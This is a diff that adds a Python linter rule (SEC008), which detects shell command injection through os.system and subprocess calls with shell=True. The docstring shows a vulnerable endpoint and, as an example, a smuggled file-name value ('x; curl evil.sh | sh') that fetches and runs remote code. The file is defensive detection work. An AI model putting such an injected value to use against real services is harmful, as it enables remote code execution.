@@ -1,0 +1,124 @@
+"""Security: shell commands built from input (SEC008)."""
+
+from __future__ import annotations
+
+import ast
+
+from prodready.engine.analysis import argument, is_true, keyword_value
+from prodready.engine.python import ModuleEnd, PythonContext
+from prodready.engine.registry import python_rule
+from prodready.engine.taint import report_deferred, sink_flow
+from prodready.model import Category, Severity
+from prodready.rules.security._shared import _pieces, _safe_value
+
+# -- SEC008 ------------------------------------------------------------------------------------
+
+_SHELL_ALWAYS = (
+    "os.system",
+    "os.popen",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
+    "commands.getoutput",
+    "commands.getstatusoutput",
+    "asyncio.create_subprocess_shell",
+    "asyncio.subprocess.create_subprocess_shell",
+)
+_SHELL_OPTIONAL = (
+    "subprocess.run",
+    "subprocess.call",
+    "subprocess.check_call",
+    "subprocess.check_output",
+    "subprocess.Popen",
+)
+_SHELL_SANITIZERS = frozenset(
+    {"shlex.quote", "shlex.join", "pipes.quote", "quote", "escapeshellarg"}
+)
+
+
+@python_rule(
+    code="SEC008",
+    name="shell-command-injection",
+    category=Category.SECURITY,
+    severity=Severity.CRITICAL,
+    summary="Shell command built from request data (os.system, subprocess with shell=True)",
+    calls=(*_SHELL_ALWAYS, *_SHELL_OPTIONAL),
+    nodes=(ModuleEnd,),
+    cwe=78,
+    fix='Pass an argument list, no shell: subprocess.run(["convert", path, out], check=True).',
+)
+def shell_command_injection(node: ast.AST, ctx: PythonContext) -> None:
+    """
+    ## What it does
+    Flags `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
+    and `subprocess.run/call/check_output/Popen(..., shell=True)` when the command line
+    carries data the client controls -- request data or handler parameters, followed through
+    local variables, f-strings, `%`, `.format()`, `+` and helper functions of the module
+    (including a helper that runs the command with its parameter when a handler passes
+    request data to it). Values passed through `shlex.quote`, numbers and allow-listed values
+    are fine; constant commands, commands built from configuration, `sys.argv` or environment
+    variables, and argument lists without `shell=True` are not reported.
+
+    ## Why it breaks production
+    The shell interprets `;`, `|`, `$(...)` and backticks inside the interpolated value: a file
+    name such as `x; curl evil.sh | sh` runs a second command with the service's permissions
+    and credentials. Even harmless input breaks it -- a space or a quote in a file name makes
+    the command fail or act on the wrong file.
+
+    ## Example
+    ```python
+    @app.post("/thumbnails/{filename}")
+    def make_thumbnail(filename: str):
+        os.system(f"convert uploads/{filename} -resize 200x200 thumbs/{filename}")
+    ```
+
+    ## Use instead
+    ```python
+    @app.post("/thumbnails/{filename}")
+    def make_thumbnail(filename: str):
+        subprocess.run(
+            ["convert", f"uploads/{filename}", "-resize", "200x200", f"thumbs/{filename}"],
+            check=True,
+            timeout=30,
+        )
+    ```
+    """
+    if isinstance(node, ast.Module):
+        report_deferred(ctx)
+        return
+    if ctx.facts.is_test or not isinstance(node, ast.Call):
+        return
+    name = ctx.call_name or ""
+    if name in _SHELL_OPTIONAL:
+        shell = keyword_value(node, "shell")
+        if isinstance(shell, ast.Name):
+            shell = ctx.value_of(shell.id) or shell
+        if not is_true(shell):
+            return
+        command = argument(node, 0, "args")
+    else:
+        command = argument(node, 0, "cmd") or argument(node, None, "command")
+    if command is None or isinstance(command, ast.Starred):
+        return
+    if isinstance(command, ast.Name):
+        bound = ctx.value_of(command.id)
+        if isinstance(bound, ast.List | ast.Tuple):
+            command = bound
+    if isinstance(command, ast.List | ast.Tuple):
+        if not command.elts:
+            return
+        command = command.elts[0]  # with a shell, only the first item is the command line
+    pieces = _pieces(command, ctx, {})
+    values = [p for p in pieces if not isinstance(p, str) and not _safe_value(p, ctx, frozenset())]
+    callee = name.rsplit(".", 1)[-1] if name in _SHELL_OPTIONAL else name
+    shell_note = " with shell=True" if name in _SHELL_OPTIONAL else ""
+
+    def report(source: str) -> None:
+        ctx.report(
+            node,
+            f"{callee}(){shell_note} runs a shell command built from {source}: shell "
+            "metacharacters in it (; | $( ) `) run arbitrary commands with the service's "
+            "permissions. Pass an argument list without shell=True (or shlex.quote() each "
+            "value)",
+        )
+
+    sink_flow(values, ctx, report, sanitizers=_SHELL_SANITIZERS, web_only=True)
